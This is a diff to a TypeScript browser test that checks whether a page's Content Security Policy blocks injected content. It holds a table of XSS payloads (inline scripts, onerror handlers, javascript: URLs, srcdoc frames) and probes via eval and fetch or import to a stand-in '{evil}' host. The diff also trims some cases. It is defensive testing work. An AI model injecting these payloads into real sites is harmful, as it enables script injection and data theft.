@@ -16,17 +16,14 @@ declare global {
 /** What somebody may get into the HTML of a page. `{evil}` is another host. */
 const injected: Readonly<Record<string, string>> = {
   'inline script': `<script>attacked('inline script')</script>`,
-  'inline module': `<script type="module">attacked('inline module')</script>`,
   'event handler': `<img src="/no-such-image" alt="" onerror="attacked('event handler')">`,
   'javascript: URL': `<a id="javascript-url" href="javascript:attacked('javascript: URL')">x</a>`,
-  'data: script': `<script src="data:text/javascript,attacked('data: script')"></script>`,
   'script of another host': `<script src="{evil}/script-of-another-host"></script>`,
   'base element': `<base href="{evil}/">`,
   'form to another host': `<form id="evil-form" action="{evil}/form-to-another-host"></form>`,
   frame: `<iframe title="x" src="{evil}/frame"></iframe>`,
   'frame with its own text': `<iframe title="x" srcdoc="<script>parent.attacked('frame with its own text')</script>"></iframe>`,
   object: `<object data="{evil}/object"></object><embed src="{evil}/object">`,
-  'stylesheet of another host': `<link rel="stylesheet" href="{evil}/stylesheet-of-another-host">`,
   'image of another host': `<img src="{evil}/image-of-another-host" alt="">`,
 };
 
@@ -50,21 +47,11 @@ async function attack(evil: string): Promise<void> {
       results[name] ??= `blocked: ${error instanceof Error ? error.name : error}`;
     }
   };
-  const inDocument = <Tag extends 'script' | 'div'>(
-    tag: Tag,
-    change: (element: HTMLElementTagNameMap[Tag]) => void,
-  ) => {
-    const element = document.createElement(tag);
-    change(element);
-    document.body.append(element);
-  };
   document.getElementById('javascript-url')?.click();
   // biome-ignore lint/security/noGlobalEval: it is what is tried
   await tryTo('eval', () => eval(text('eval')));
   await tryTo('new Function', () => new Function(text('new Function'))());
-  await tryTo('timer with a text', () => setTimeout(text('timer with a text')));
   await tryTo('import from another host', () => import(`${evil}/import-from-another-host`));
-  await tryTo('import of data', () => import(`data:text/javascript,${text('import of data')}`));
   await tryTo('worker from a blob', () => {
     const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(0)'], { type: 'text/javascript' })));
     return new Promise<void>((done, fail) => {
@@ -76,12 +63,11 @@ async function attack(evil: string): Promise<void> {
     });
   });
   await tryTo('request to another host', () => fetch(`${evil}/request-to-another-host`, { mode: 'no-cors' }));
-  await tryTo('text of a script', () =>
-    inDocument('script', (script) => (script.textContent = text('text of a script'))),
-  );
-  await tryTo('innerHTML', () =>
-    inDocument('div', (div) => (div.innerHTML = `<img src="/no-such-image" onerror="${text('innerHTML')}">`)),
-  );
+  await tryTo('innerHTML', () => {
+    document.body.append(document.createElement('div'));
+    const { lastElementChild: div } = document.body;
+    if (div) div.innerHTML = `<img src="/no-such-image" onerror="${text('innerHTML')}">`;
+  });
   const types: { createPolicy(name: string, rules: object): unknown } | undefined = Reflect.get(window, 'trustedTypes');
   if (types) await tryTo('policy of Trusted Types', () => types.createPolicy('evil', {}));
   results['Trusted Types'] = types ? 'supported' : 'not supported';
